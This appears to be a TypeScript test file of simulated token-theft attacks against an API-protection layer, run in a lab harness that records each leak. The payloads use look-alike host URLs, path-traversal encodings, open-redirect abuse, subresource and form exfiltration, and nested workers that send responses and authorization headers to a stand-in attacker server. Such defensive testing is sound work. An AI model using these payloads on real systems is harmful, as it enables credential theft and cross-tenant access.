import { attack } from "../attack.js";

export const lookAlikeHosts = attack({
  name: "sends requests to hosts that look like the API",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    const api = new URL(it.apiUrl);
    // All of these reach the attacker's server, under both of its host names.
    for (const attacker of [it.attackerUrl, it.siblingUrl].map((url) => new URL(url))) {
      const at = `${attacker.host}${attacker.pathname}`;
      for (const url of [
        `http://${at}/v1/me`,
        `http://${at}/${api.href}me`,
        `http://${at}/?${api.href}me`,
        `http://${at}/#${api.href}me`,
        `http://${api.host}@${at}/v1/me`,
        `http://${api.hostname}:${api.port}%2f@${at}/v1/me`,
        `http://user:pass@${at}/v1/me`,
        `http://${at}/..;/v1/me`,
        `http:\\\\${at}\\v1\\me`,
        `http://${at}/v1/%2e%2e/v1/me`,
        `//${at}/v1/me`,
      ]) {
        for (const mode of ["cors", "no-cors"] as const) {
          await fetch(url, { mode }).catch(() => {});
          await fetch(url, { mode, headers: { authorization: "Bearer x" } }).catch(() => {});
        }
      }
    }
  },
});

/** The path that a server resolves if it strips segment parameters, decodes once or twice, trims, and then resolves dots. */
function resolutionsOf(path: string): string[] {
  const decode = (text: string) => {
    try {
      return decodeURIComponent(text);
    } catch {
      return text;
    }
  };
  // RFC 3986 section 3.3 leaves `;` to the server: Tomcat and Jetty strip it, and what follows, from each segment.
  const withoutParameters = (text: string) => text.replace(/;[^/]*/g, "");
  const steps = [
    [withoutParameters],
    [decode, withoutParameters],
    [withoutParameters, decode],
    [decode, decode],
    [decode, decode, withoutParameters],
    [decode, (text: string) => text.replace(/[\s\0]+(?=\/|$)/g, "")],
  ];
  return steps.map((transform) => {
    const text = transform.reduce((result, step) => step(result), path).replaceAll("\\", "/");
    return new URL(text.replace(/^\/+/, "/"), "http://localhost").pathname;
  });
}

export const lookAlikePaths = attack({
  name: "requests paths that some servers resolve to a place outside the API",
  threat: "single-execution theft",
  target: "strongroom",
  // Another path of the API's origin may belong to another tenant.
  async payload(it) {
    const other = "other-tenant";
    const ups = [
      "..;",
      "..;a=b",
      "%2e%2e;",
      "%2e%2e%3b",
      "%2e.%3Ba=b",
      "..%3b",
      "%252e%252e",
      "%252E%252e%253b",
      ".%252e",
      "..%20",
      "..%09",
      "..%00",
      "%2e%2e%20",
      "..%2520",
      "%25252e%25252e",
      "x/..;/..;",
      "..;/..;",
      ";/..;",
      "..%2f",
      "..%5c",
      "..%252f",
      "..;%2f",
      ".;/..;",
      "%c0%ae%c0%ae",
      "..%ef%bc%8f",
      "%ef%bc%8e%ef%bc%8e",
      "..%e2%80%8b",
    ];
    for (const up of ups) {
      for (const base of ["/api/v1/", "/api/v1;/", "/api/v1%3b/", "/api/v1"]) {
        await fetch(`${it.appUrl.slice(0, -1)}${base}${up}/${other}`).catch(() => {});
        await fetch(`${it.appUrl.slice(0, -1)}${base}${up}/${up}/${other}`).catch(() => {});
      }
    }
  },
  async play(stage) {
    const { site, lab } = stage;
    site.intercept = (request) => {
      const path = (request.url ?? "").split(/[?#]/)[0] ?? "";
      if (!path.includes("other-tenant")) return false;
      const outside = resolutionsOf(path).some((resolved) => !resolved.startsWith("/api/v1/"));
      if (outside) lab.attacker.add(stage.attackerPath.slice(1), JSON.stringify(request.headers));
      if (outside && request.headers.authorization) stage.endings.push(`ran: ${path}`);
      return false;
    };
    try {
      await stage.openSignedIn();
      await stage.inject();
    } finally {
      site.intercept = undefined;
    }
  },
});

export const redirectsOfTheApi = attack({
  name: "uses an open redirect of the API to its own server",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    for (const home of [it.attackerUrl, it.siblingUrl]) {
      for (const base of [it.apiUrl, it.ownApiUrl]) {
        if (!base) continue;
        const url = `${base}redirect?${new URLSearchParams({ to: `${home}/landed` })}`;
        for (const init of [
          {},
          { mode: "no-cors" },
          { method: "POST", body: "x" },
          { redirect: "manual" },
          { headers: { authorization: "Bearer x" } },
          { credentials: "include" },
          { keepalive: true },
          { cache: "reload" },
        ] as RequestInit[]) {
          const response = await fetch(url, init).catch(() => undefined);
          it.steal(response?.url, [...(response?.headers ?? [])]);
        }
        const request = new XMLHttpRequest();
        request.open("GET", url);
        request.send();
      }
    }
    await it.pause(200);
  },
});

export const apiRedirectToAnotherPath = attack({
  name: "uses a redirect of the API to another path of its origin",
  threat: "single-execution theft",
  target: "strongroom",
  // Another path of the API's origin may belong to another tenant.
  async payload() {
    await fetch(`/api/v1/redirect?${new URLSearchParams({ to: "/another-tenant" })}`).catch(() => {});
  },
  async play(stage) {
    stage.site.routes.set("/another-tenant", (request, response) => {
      stage.lab.attacker.add(stage.attackerPath.slice(1), JSON.stringify(request.headers));
      response.end();
    });
    await stage.openSignedIn();
    await stage.inject();
  },
});

export const apiRefusesThenRedirects = attack({
  name: "uses an API that refuses the token and redirects the replay",
  threat: "single-execution theft",
  target: "strongroom",
  async payload() {
    for (const init of [{}, { method: "POST", body: "x" }, { mode: "no-cors" }] as RequestInit[]) {
      await fetch("/api/v1/hostile-second", init).catch(() => {});
    }
  },
  async play(stage) {
    let tries = 0;
    stage.site.routes.set("/api/v1/hostile-second", (_request, response) => {
      tries += 1;
      if (tries % 2 === 1) response.writeHead(401).end();
      else
        response.writeHead(307, { location: `${stage.facts.attackerUrl}${stage.attackerPath}/second` }).end();
    });
    await stage.openSignedIn();
    await stage.inject();
  },
});

export const subresources = attack({
  name: "loads images, beacons, prefetches, scripts and styles through a redirect of the API",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    const to = (path: string) =>
      `${it.ownApiUrl ?? it.apiUrl}redirect?${new URLSearchParams({ to: `${it.attackerUrl}/${path}` })}`;
    const element = (name: string, attributes: Record<string, string>) => {
      const created = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) {
        try {
          created.setAttribute(key, value);
        } catch {
          // Trusted Types refuse an untrusted script URL.
        }
      }
      document.body.append(created);
    };
    element("img", { src: to("img") });
    element("img", { src: `${it.attackerUrl}/v1/me` });
    element("img", { src: to("img-cors"), crossorigin: "use-credentials" });
    element("audio", { src: to("audio") });
    element("video", { src: to("video"), poster: to("poster") });
    element("script", { src: to("script") });
    element("link", { rel: "stylesheet", href: to("style") });
    for (const rel of ["prefetch", "preload", "modulepreload", "icon", "manifest"]) {
      element("link", { rel, href: to(rel), as: "fetch" });
    }
    element("a", { href: location.pathname + location.hash, ping: to("ping"), id: "ping" });
    navigator.sendBeacon(to("beacon"), "x");
    if ("EventSource" in window) {
      const source = new EventSource(to("events"));
      setTimeout(() => source.close(), 800);
    }
    await import(to("import")).catch(() => {});
    await it.pause(1_000);
  },
});

export const navigationsAndForms = attack({
  name: "opens frames and submits forms through a redirect of the API",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    const to = (path: string) =>
      `${it.ownApiUrl ?? it.apiUrl}redirect?${new URLSearchParams({ to: `${it.attackerUrl}/${path}` })}`;
    for (const [name, attribute] of [
      ["iframe", "src"],
      ["object", "data"],
      ["embed", "src"],
    ] as const) {
      for (const url of [to(name), `${it.ownApiUrl ?? it.apiUrl}me`]) {
        const element = document.createElement(name);
        try {
          element.setAttribute(attribute, url);
        } catch {
          // Trusted Types refuse <object> and <embed>.
        }
        document.body.append(element);
      }
    }
    for (const method of ["get", "post"]) {
      const target = Object.assign(document.createElement("iframe"), { name: `target-${method}` });
      const form = Object.assign(document.createElement("form"), {
        method,
        action: to(`form-${method}`),
        target: target.name,
      });
      form.innerText = "";
      document.body.append(target, form);
      form.append(
        Object.assign(document.createElement("input"), { name: "to", value: `${it.attackerUrl}/form` }),
      );
      form.submit();
    }
    await it.pause(1_000);
    for (const frame of document.querySelectorAll("iframe")) {
      try {
        it.steal(frame.contentDocument?.documentElement.outerHTML, frame.contentWindow?.location.href);
      } catch {
        // Cross-origin.
      }
    }
  },
});

export const workersOfTheAttacker = attack({
  name: "sends requests from its own workers and nested workers",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    const code = `
      const urls = ${JSON.stringify([
        `${it.apiUrl}me`,
        `${it.apiUrl}redirect?${new URLSearchParams({ to: `${it.attackerUrl}/from-a-worker` })}`,
        `${it.attackerUrl}/from-a-worker`,
        `${it.siblingUrl}/from-a-worker`,
        `${it.appUrl}auth/session`,
        `${it.appUrl}auth/keep`,
      ])};
      const channel = new BroadcastChannel("attack");
      const look = async () => {
        for (const url of urls) {
          const response = await fetch(url, url.endsWith("keep") ? { signal: AbortSignal.timeout(500) } : {}).catch(() => undefined);
          if (response) channel.postMessage([response.url, [...response.headers], await response.text().catch(String)]);
        }
      };
      look();
      if (!self.name && self.Worker) new Worker(location.href, { name: "nested" });`;
    new BroadcastChannel("attack").onmessage = ({ data }) => it.steal(data);
    const blob = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
    for (const url of [blob, `data:text/javascript,${encodeURIComponent(code)}`, "/assets/dependency.js"]) {
      for (const type of ["classic", "module"] as const) {
        for (const kind of ["Worker", "SharedWorker"] as const) {
          try {
            new window[kind](it.scriptUrl(url), { type });
          } catch {
            // The page's policy refuses the worker.
          }
        }
      }
    }
    await it.pause(1_500);
  },
});
